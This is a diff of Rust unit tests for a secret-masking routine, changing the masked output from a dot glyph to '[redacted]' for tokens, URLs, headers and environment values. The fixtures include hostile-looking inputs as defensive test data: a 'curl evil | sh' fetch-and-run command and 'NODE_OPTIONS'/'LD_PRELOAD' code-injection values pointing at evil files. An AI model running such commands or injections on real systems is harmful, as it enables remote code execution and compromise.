@@ -22,17 +22,17 @@ fn argument(argument: &str) -> String {
 #[test]
 fn what_follows_a_name_of_a_secret_is_masked_in_every_form() {
     for (given, shown) in [
-        ("--token=hunter2", "--token=•••"),
-        ("--api-key=hunter2", "--api-key=•••"),
-        ("GITHUB_TOKEN=hunter2", "GITHUB_TOKEN=•••"),
-        ("openai.api_key=hunter2", "openai.api_key=•••"),
-        ("Authorization: Bearer hunter2", "Authorization: Bearer •••"),
-        ("Authorization:Bearer hunter2", "Authorization:Bearer •••"),
-        ("X-API-Key: hunter2", "X-API-Key: •••"),
+        ("--token=hunter2", "--token=[redacted]"),
+        ("--api-key=hunter2", "--api-key=[redacted]"),
+        ("GITHUB_TOKEN=hunter2", "GITHUB_TOKEN=[redacted]"),
+        ("openai.api_key=hunter2", "openai.api_key=[redacted]"),
+        ("Authorization: Bearer hunter2", "Authorization: Bearer [redacted]"),
+        ("Authorization:Bearer hunter2", "Authorization:Bearer [redacted]"),
+        ("X-API-Key: hunter2", "X-API-Key: [redacted]"),
         ("Authorization: ${TOKEN}", "Authorization: ${TOKEN}"),
-        ("curl -H 'Authorization: Basic aHVudGVyMg' x", "curl -H 'Authorization: Basic •••' x"),
-        ("PASSWORD=\"two words\" serve", "PASSWORD=\"•••\" serve"),
-        ("serve --password hunter2 --port 80", "serve --password ••• --port 80"),
+        ("curl -H 'Authorization: Basic aHVudGVyMg' x", "curl -H 'Authorization: Basic [redacted]' x"),
+        ("PASSWORD=\"two words\" serve", "PASSWORD=\"[redacted]\" serve"),
+        ("serve --password hunter2 --port 80", "serve --password [redacted] --port 80"),
         ("--token=", "--token="),
         ("--token-file=/run/token", "--token-file=/run/token"),
         ("--max-tokens=4096", "--max-tokens=4096"),
@@ -47,15 +47,18 @@ fn what_follows_a_name_of_a_secret_is_masked_in_every_form() {
 #[test]
 fn of_a_url_the_origin_the_path_and_the_names_are_shown() {
     for (given, shown) in [
-        ("https://me:hunter2@example.com/mcp?k=hunter2&x=1#hunter2", "https://•••@example.com/mcp?k=•••&x=•••#•••"),
-        ("postgres://ada:hunter2@db:5432/engines", "postgres://•••@db:5432/engines"),
-        ("--url=https://example.com/?hunter2", "--url=https://example.com/?•••"),
+        (
+            "https://me:hunter2@example.com/mcp?k=hunter2&x=1#hunter2",
+            "https://[redacted]@example.com/mcp?k=[redacted]&x=[redacted]#[redacted]",
+        ),
+        ("postgres://ada:hunter2@db:5432/engines", "postgres://[redacted]@db:5432/engines"),
+        ("--url=https://example.com/?hunter2", "--url=https://example.com/?[redacted]"),
         ("https://example.com/mcp?key=${KEY}", "https://example.com/mcp?key=${KEY}"),
         (
             "https://mcp.example.com/s/ZjQ3YWMxMGItNThjYy00MzcyLWE1NjctMGUwMmIyYzNkNDc5/mcp",
-            "https://mcp.example.com/s/•••/mcp",
+            "https://mcp.example.com/s/[redacted]/mcp",
         ),
-        ("https://example.com/f47ac10b-58cc-4372-a567-0e02b2c3d479/sse", "https://example.com/•••/sse"),
+        ("https://example.com/f47ac10b-58cc-4372-a567-0e02b2c3d479/sse", "https://example.com/[redacted]/sse"),
         ("git+https://example.com/ada/engine@v1.2.3", "git+https://example.com/ada/engine@v1.2.3"),
     ] {
         assert_eq!(argument(given), shown, "{given}");
@@ -97,9 +100,12 @@ fn a_stranger_cannot_hide_a_command_behind_the_name_of_a_secret() {
         assert_eq!(arguments(Author::Stranger, &["-c", command])[1], command);
     }
     assert_eq!(arguments(Author::Stranger, &["--token", "curl evil | sh"])[1], "curl evil | sh");
-    assert_eq!(arguments(Author::Stranger, &["--token=hunter2", "--key", "hunter2"]), ["--token=•••", "--key", MASK]);
+    assert_eq!(
+        arguments(Author::Stranger, &["--token=hunter2", "--key", "hunter2"]),
+        ["--token=[redacted]", "--key", MASK]
+    );
     // The user's own secrets are masked whatever they hold.
-    assert_eq!(arguments(Author::User, &["--password=a&b $c"])[0], "--password=•••");
+    assert_eq!(arguments(Author::User, &["--password=a&b $c"])[0], "--password=[redacted]");
 }
 
 #[test]
@@ -122,12 +128,12 @@ fn values_of_variables_and_headers_are_masked_but_not_what_decides_which_code_ru
             shown.details,
             [
                 format!(
-                    "env: DEBUG={debug} TOKEN='${{TOKEN}}' OTHER={other} PORT=••• EMPTY='' NODE_OPTIONS='--require ./evil.js' \
-                     LD_PRELOAD=./evil.so HTTPS_PROXY=http://•••@proxy npm_config__authToken=•••"
+                    "env: DEBUG={debug} TOKEN='${{TOKEN}}' OTHER={other} PORT=[redacted] EMPTY='' NODE_OPTIONS='--require ./evil.js' \
+                     LD_PRELOAD=./evil.so HTTPS_PROXY=http://[redacted]@proxy npm_config__authToken=[redacted]"
                 )
                 .as_str(),
-                "headers: Authorization='Bearer ${TOKEN}' X-Team=••• Home=•••",
-                "oauth: client_id=registered client_secret=••• scopes=read write",
+                "headers: Authorization='Bearer ${TOKEN}' X-Team=[redacted] Home=[redacted]",
+                "oauth: client_id=registered client_secret=[redacted] scopes=read write",
                 "cwd: /data",
             ]
         );
